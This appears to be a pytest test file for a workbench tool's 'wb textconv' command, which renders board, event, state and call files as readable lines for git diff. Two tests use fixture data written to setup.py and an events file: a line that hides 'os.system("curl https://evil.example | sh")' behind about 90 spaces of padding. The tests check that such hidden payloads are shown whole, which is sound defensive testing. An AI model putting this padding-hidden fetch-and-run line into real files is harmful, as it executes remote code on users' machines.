"""`wb textconv KIND FILE`: the readable view git shows, robust to any revision of the file."""

from __future__ import annotations

import shlex
import sys

import pytest

from tests.conftest import files_only
from workbench.review.textconv import convert

WB = shlex.join([sys.executable, "-m", "workbench.cli.main"])


@files_only  # git's textconv driver reads .workbench/*'s files in git; a SQLite workbench has none
def test_board_one_line_per_task(bench, repo, wb):
    bench.add_task("Parse the config", acceptance=["python3 app.py", "true"])
    bench.add_task("Review the parser", kind="review", reviews="T-001", depends_on=["T-001"])
    bench.start_task("T-001")
    bench.done_task("T-001")
    bench.block_task("T-002", "waiting for the API key")
    r = wb(repo, "textconv", "board", ".workbench/board.json")
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == [
        "schema_version: 2",
        "T-001 [done] build/builder  Parse the config  (acceptance: python3 app.py, true)",
        "T-002 [blocked] review/reviewer  Review the parser  "
        "(reviews: T-001; depends on: T-001; blocked: waiting for the API key)",
    ]


@files_only  # git's textconv driver reads .workbench/*'s files in git; a SQLite workbench has none
def test_events_one_line_per_event_like_wb_log(bench, repo, wb):
    bench.add_task("Parse the config")
    r = wb(repo, "textconv", "events", ".workbench/events.jsonl")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    # the same words as `wb log`; the columns: fixed here (a render extended line by line), as wide as what
    # it lists in `wb log` (issue 31)
    assert [line.split() for line in lines] == [line.split() for line in wb(repo, "log").stdout.splitlines()]


@files_only  # git's textconv driver reads .workbench/*'s files in git; a SQLite workbench has none
def test_state_frontmatter_then_the_decision_log(bench, repo, wb):
    bench.note("Chose a hand-written parser.")
    r = wb(repo, "textconv", "state", ".workbench/state.md")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert lines[:2] == ["schema_version: 2", "status: idle"]
    assert "counters.tasks_completed: 0" in lines
    assert "session: null" in lines
    assert lines[lines.index("") + 1] == "# Decision log"
    assert lines[-1] == "Chose a hand-written parser."


def test_calls_one_line_per_record():
    raw = (b'{"schema_version":1,"key":"S:s1:1","session":"S","step":"s1","attempt":1,"tool":"pytest",'
           b'"status":"done","ts":"2026-01-01T00:00:00Z","result":{"exit_code":0},"error":null}\n')
    assert convert("calls", raw) == ['2026-01-01T00:00:00Z  done     pytest  S:s1:1  {"exit_code": 0}']


@pytest.mark.parametrize("kind", ["board", "events", "state", "calls"])
@pytest.mark.parametrize("raw", [b"", b"\n", b'{"tasks": [', b"---\nstatus: [\n---\n", b"\xff\xfe garbage", b"[1, 2]",
                                 b'{"seq": 1}\n{"torn', b"null\n"])
def test_any_bytes_give_lines_and_never_raise(kind, raw):
    lines = convert(kind, raw)
    assert isinstance(lines, list) and all(isinstance(line, str) for line in lines)


def _blob(tmp_path, name, data):
    """A version of a workbench file as git hands it to a textconv: a temporary copy named after it."""
    folder = tmp_path / f"git-blob-{len(list(tmp_path.glob('git-blob-*'))):06d}"
    folder.mkdir()
    (folder / name).write_bytes(data)
    return str(folder / name)


def test_empty_and_broken_files_exit_0_with_something_sensible(tmp_path, wb):
    broken = b'{"schema_version": 1, "tasks": [\n'
    assert wb(tmp_path, "textconv", "board", _blob(tmp_path, "board.json", b"")).stdout == "(empty board.json)\n"
    assert wb(tmp_path, "textconv", "events", _blob(tmp_path, "events.jsonl", b"")).stdout == ""  # no lines
    r = wb(tmp_path, "textconv", "board", _blob(tmp_path, "board.json", broken))
    assert r.returncode == 0
    assert r.stdout.splitlines() == ["(wb textconv: broken JSON at line 2; raw text follows)",
                                     '{"schema_version": 1, "tasks": [']
    r = wb(tmp_path, "textconv", "state", _blob(tmp_path, "state.md", broken))
    assert r.returncode == 0 and "must start with a '---' line" in r.stdout.splitlines()[0]
    r = wb(tmp_path, "textconv", "events", str(tmp_path / "missing"))
    assert r.returncode == 0 and r.stdout.startswith("(wb textconv: cannot read")


def test_a_file_that_is_not_a_workbench_file_is_shown_as_it_is(tmp_path, wb):
    """A root .gitattributes can route any path to wb's textconv: only the workbench file a KIND names gets
    wb's view; any other file (its work-tree path, or git's temporary copy named after it) is printed byte for
    byte, as git would show it without the driver."""
    code = 'import os;' + ' ' * 90 + 'os.system("curl https://evil.example | sh")\n'
    (tmp_path / "setup.py").write_text(code)
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "board.json").write_text('{"tasks": []}\n')
    for kind in ("board", "events", "state", "calls"):
        for file in ("setup.py", _blob(tmp_path, "setup.py", code.encode()), _blob(tmp_path, "a_setup.py", b"x")):
            r = wb(tmp_path, "textconv", kind, file)
            assert r.returncode == 0
            assert r.stdout in (code, "x"), (kind, file, r.stdout)
    assert wb(tmp_path, "textconv", "board", "src/board.json").stdout == '{"tasks": []}\n'
    (tmp_path / ".workbench").mkdir()
    (tmp_path / ".workbench" / "board.json").write_text('{"tasks": []}\n')
    assert wb(tmp_path, "textconv", "board", ".workbench/board.json").stdout == "(no tasks)\n"
    assert wb(tmp_path, "textconv", "state", ".workbench/board.json").stdout == '{"tasks": []}\n'


def test_torn_last_event_is_shown_as_torn():
    raw = (b'{"seq":1,"ts":"t","type":"note.add","actor":"agent","payload":{"text":"hi"}}\n'
           b'{"seq":2,"ts":"t","type":"no')
    lines = convert("events", raw)
    assert lines[0].startswith("#1") and lines[0].split()[-2:] == ["note.add", "hi"]
    assert lines[1].startswith("(torn last line (ignored by wb):")


def test_unknown_kind_is_a_usage_error(tmp_path, wb, error_line):
    r = wb(tmp_path, "textconv", "tasks", "x")
    assert r.returncode == 2
    assert error_line(r.stderr) == "wb: KIND must be one of board, events, state, calls, not 'tasks'"


def test_help_has_text_but_the_command_is_hidden(tmp_path, wb):
    assert "textconv" not in wb(tmp_path, "--help").stdout
    r = wb(tmp_path, "textconv", "--help")
    assert r.returncode == 0 and "git's textconv" in r.stdout


@files_only  # git's textconv driver reads .workbench/*'s files in git; a SQLite workbench has none
def test_git_diff_shows_the_wb_view_through_textconv(bench, repo, wb, git):
    """Wired as wb init registers it (.gitattributes + diff.<driver>.textconv), git shows tasks, not JSON."""
    (repo / ".gitattributes").write_text(".workbench/board.json diff=wb-board\n"
                                         ".workbench/events.jsonl diff=wb-events\n")
    git(repo, "config", "diff.wb-board.textconv", f"{WB} textconv board")
    git(repo, "config", "diff.wb-events.textconv", f"{WB} textconv events")
    bench.add_task("Parse the config")
    bench.start_task("T-001")
    out = git(repo, "diff", "HEAD~1", "HEAD", "--", ".workbench/board.json")
    assert "-T-001 [todo] build/builder  Parse the config" in out
    assert "+T-001 [in_progress] build/builder  Parse the config" in out
    out = git(repo, "log", "-p", "-1", "--", ".workbench/events.jsonl")
    assert [line for line in out.splitlines() if line.startswith("+#")][0].startswith("+#3 ")


def test_a_damaged_line_is_shown_whole():
    """A line the events view cannot read was cut at 80 characters: padding hid its tail."""
    line = "import os;" + " " * 90 + 'os.system("curl https://evil.example | sh")'
    raw = (line + "\n" + line).encode()
    lines = convert("events", raw)
    assert lines == [f"(line 1: damaged: {line})", f"(torn last line (ignored by wb): {line})"]
